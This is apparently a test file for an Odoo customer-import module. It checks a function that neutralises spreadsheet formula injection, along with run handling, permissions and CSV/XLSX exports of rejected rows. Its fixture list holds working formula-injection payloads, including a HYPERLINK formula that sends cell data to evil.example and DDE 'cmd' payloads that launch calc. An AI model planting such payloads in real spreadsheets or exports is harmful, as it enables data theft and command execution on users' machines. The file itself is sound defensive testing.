import csv
import doctest
import io

import openpyxl
from odoo.exceptions import AccessError, UserError
from odoo.tests import BaseCase, tagged

from ..tools import spreadsheet  # noqa: TID252 (pylint-odoo wants relative imports)
from .common_sync import SyncCommon

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+86 138 0013 8000", "+86 138 0013 8000"),
    ("+8613800138000", "+8613800138000"),
    ("+1 (555) 123-4567", "+1 (555) 123-4567"),
    ("010-6552-1234", "010-6552-1234"),
    ("0755-8888 1234", "0755-8888 1234"),
    ("深圳市-南山区", "深圳市-南山区"),
    ("-", "'-"),
    ("+86 138 0013 8000 =1+1", "'+86 138 0013 8000 =1+1"),
]


@tagged("post_install", "-at_install")
class TestSpreadsheet(BaseCase):
    """The neutralising function on its own."""

    def test_doctests(self):
        failed, attempted = doctest.testmod(spreadsheet)
        self.assertGreater(attempted, 0)
        self.assertEqual(failed, 0)

    def test_hostile_cells(self):
        for value, expected in HOSTILE:
            self.assertEqual(spreadsheet.neutralise(value), expected, repr(value))

    def test_no_odoo_import(self):
        source = spreadsheet.__loader__.get_source(spreadsheet.__name__)
        self.assertNotIn("import odoo", source)
        self.assertNotIn("from odoo", source)


@tagged("post_install", "-at_install")
class TestSyncRun(SyncCommon):
    def test_numbered_and_queued_with_its_file(self):
        run = self.queue_run()
        self.assertRegex(run.name, r"^RUN/\d{4}/\d{4}$")
        self.assertEqual(run.state, "queued")
        self.assertEqual(run.started_by, self.env.user)
        self.assertEqual((run.attachment_id.res_model, run.attachment_id.res_id), (run._name, run.id))
        self.assertEqual(run.file_sha256, self.sha256(run.attachment_id.raw))
        self.assertEqual(run.file_size, len(run.attachment_id.raw))
        self.assertIn(run, self.source.run_ids)

    def test_figures_are_protected(self):
        run = self.queue_run()
        for user in (self.user_manager, self.user_admin_ci, self.user_worker):
            with self.assertRaises(UserError, msg=user.login):
                run.with_user(user).write({"state": "done"})
            with self.assertRaises(UserError, msg=user.login):
                run.with_user(user).write({"created_count": 100})
        with self.assertRaises(UserError):
            self.Run.with_user(self.user_admin_ci).create({"source_id": self.source.id})
        with self.assertRaises(AccessError):
            run.with_user(self.user_sales).read(["name"])
        with self.assertRaises(UserError):
            self.env["customer.sync.run.row"].with_user(self.user_worker).create(
                {"run_id": run.id, "outcome": "created"}
            )

    def test_cancel_queued_at_once(self):
        run = self.queue_run()
        run.with_user(self.user_manager).action_cancel()
        self.assertEqual(run.state, "cancelled")
        self.assertTrue(run.cancel_requested)
        self.assertTrue(run.finished_at)
        self.assertFalse(self.Run._claim("w1"), "a cancelled run is never claimed")

    def test_cancel_running_at_next_chunk(self):
        run = self.queue_run()
        self.assertEqual(self.Run._claim("w1"), run)
        run.with_user(self.user_manager).action_cancel()
        self.assertEqual(run.state, "running")
        answer = run.with_user(self.user_worker)._report_progress(10)
        self.assertEqual(answer, {"state": "running", "cancel_requested": True})
        summary = run.with_user(self.user_worker)._finish("cancelled", message="Stopped at row 10.")
        self.assertEqual(summary["state"], "cancelled")
        self.assertIn("Stopped at row 10.", run.message_ids[0].body)

    def test_retry_failed_run(self):
        run = self.queue_run()
        self.Run._claim("w1")
        run._finish("failed", message="Odoo went away.")
        with self.assertRaises(UserError):
            self.queue_run().action_retry()  # a queued run is not retried
        action = run.action_retry()
        retry = self.Run.browse(action["res_id"])
        self.assertEqual((retry.state, retry.retry_of_id), ("queued", run))
        self.assertEqual(retry.attachment_id.raw, run.attachment_id.raw)
        self.assertNotEqual(retry.attachment_id, run.attachment_id)
        self.assertEqual((retry.attachment_id.res_model, retry.attachment_id.res_id), (retry._name, retry.id))

    def test_record_rows_moves_the_counters(self):
        run = self.queue_run()
        self.Run._claim("w1")
        partner = self.company_cn
        rows = [
            {
                "row": 1,
                "external_key": "tax:91310000MA1FL0000X",
                "values": {"name": "上海启航"},
                "rejected": None,
            },
            {"row": 2, "external_key": "row:2", "values": {"name": "x"}, "rejected": None},
            {
                "row": 3,
                "external_key": "row:3",
                "values": {"email": '=HYPERLINK("http://x")', "phone": "+86 138 0013 8000"},
                "rejected": {
                    "code": "email.syntax",
                    "message": "The email address has no @.",
                    "field": "email",
                    "value": '=HYPERLINK("http://x")' + "x" * 500,
                },
            },
            {"row": None, "kind": "pair", "pair": ["row:1", "row:2"], "score": 3.1, "evidence": []},
        ]
        results = [
            {"row": 1, "outcome": "linked", "partner_id": partner.id, "candidate_id": None},
            {"row": 2, "outcome": "created", "partner_id": self.person_free.id, "candidate_id": None},
            {"row": 3, "outcome": "rejected", "partner_id": None, "candidate_id": None},
            {"row": None, "outcome": "review", "partner_id": None, "candidate_id": None},
        ]
        records = run.with_user(self.user_worker)._record_rows(results, rows)
        self.assertEqual(len(records), 3, "the pair row has no row outcome of its own")
        self.assertEqual(
            (run.linked_count, run.created_count, run.rejected_count, run.review_count), (1, 1, 1, 0)
        )
        rejected = run.reject_ids
        self.assertEqual(rejected.reason_code, "email.syntax")
        self.assertLessEqual(len(rejected.value), 200)
        self.assertEqual(rejected.raw["phone"], "+86 138 0013 8000")
        self.assertEqual(records[0].partner_id, partner)
        unchanged = run.with_user(self.user_worker)._record_rows([{"row": 4, "outcome": "unchanged"}])
        self.assertEqual(run.unchanged_count, 1)
        self.assertFalse(unchanged, "unchanged rows are counted, not stored")
        kept = run._record_rows([{"row": 5, "outcome": "unchanged"}], keep_unchanged=True)
        self.assertEqual((kept.outcome, run.unchanged_count), ("unchanged", 2))

    def _run_with_rejects(self):
        run = self.queue_run()
        self.Run._claim("w1")
        values = ["=1+1", "+86 138 0013 8000", "010-6552-1234", "@SUM(A1)", "\t=2", "-3+4", "普通值"]
        run._record_rows(
            [{"row": index + 1, "outcome": "rejected"} for index in range(len(values))],
            [
                {
                    "row": index + 1,
                    "external_key": f"row:{index + 1}",
                    "rejected": {
                        "code": "test.bad",
                        "message": "Bad value.",
                        "field": "phone",
                        "value": value,
                    },
                }
                for index, value in enumerate(values)
            ],
        )
        return run, values

    def test_rejects_csv_is_neutralised(self):
        run, values = self._run_with_rejects()
        action = run.with_user(self.user_manager).action_download_rejects_csv()
        self.assertEqual(action["type"], "ir.actions.act_url")
        attachment = self.env["ir.attachment"].browse(int(action["url"].split("/")[3].split("?")[0]))
        self.assertEqual((attachment.res_model, attachment.res_id), (run._name, run.id))
        self.assertTrue(attachment.raw.startswith(b"\xef\xbb\xbf"), "a BOM: Excel reads UTF-8")
        table = list(csv.reader(io.StringIO(attachment.raw.decode("utf-8-sig"), newline="")))
        self.assertEqual(len(table), 1 + len(values))
        cells = [row[5] for row in table[1:]]
        self.assertEqual(
            cells, ["'=1+1", "+86 138 0013 8000", "010-6552-1234", "'@SUM(A1)", "'\t=2", "'-3+4", "普通值"]
        )
        for row in table:
            for cell in row:
                self.assertTrue(not cell.startswith(spreadsheet.TRIGGERS) or spreadsheet.is_phone(cell), cell)
        run.action_download_rejects_csv()
        self.assertEqual(
            self.env["ir.attachment"].search_count(
                [("res_model", "=", run._name), ("res_id", "=", run.id), ("name", "=like", "%rejects.csv")]
            ),
            1,
            "a new download replaces the previous file",
        )
        self.assertTrue(run.attachment_id.exists(), "the run's own file stays")

    def test_rejects_xlsx_has_no_formula(self):
        run, values = self._run_with_rejects()
        action = run.with_user(self.user_manager).action_download_rejects_xlsx()
        attachment = self.env["ir.attachment"].browse(int(action["url"].split("/")[3].split("?")[0]))
        workbook = openpyxl.load_workbook(io.BytesIO(attachment.raw))
        sheet = workbook.active
        cells = [sheet.cell(row=index + 2, column=6) for index in range(len(values))]
        for cell in sheet.iter_rows():
            for item in cell:
                self.assertNotEqual(item.data_type, "f", item.value)
        self.assertEqual(cells[1].value, "+86 138 0013 8000")
        self.assertEqual(cells[1].data_type, "s")
        self.assertEqual(cells[2].value, "010-6552-1234")
        self.assertEqual(cells[0].value, "'=1+1")
        self.assertEqual(cells[6].value, "普通值")

    def test_only_readers_download(self):
        run, _values = self._run_with_rejects()
        with self.assertRaises(AccessError):
            run.with_user(self.user_sales).action_download_rejects_csv()

    def test_views_load_for_managers(self):
        for view_type in ("list", "form", "kanban", "search"):
            arch = self.Run.with_user(self.user_manager).get_view(view_type=view_type)["arch"]
            self.assertIn("state", arch)
        self.env["customer.sync.run.row"].with_user(self.user_manager).get_views(
            [(False, "list"), (False, "form")]
        )
        self.env["customer.sync.upload"].with_user(self.user_admin_ci).get_views([(False, "form")])
        for view_type in ("list", "form", "search"):
            self.Source.with_user(self.user_admin_ci).get_view(view_type=view_type)
        self.Source.with_user(self.user_manager).get_view(view_type="form")

    def test_unlink_only_finished_runs(self):
        run = self.queue_run()
        with self.assertRaises(UserError):
            run.unlink()
        run.action_cancel()
        run.unlink()
        self.assertFalse(run.exists())
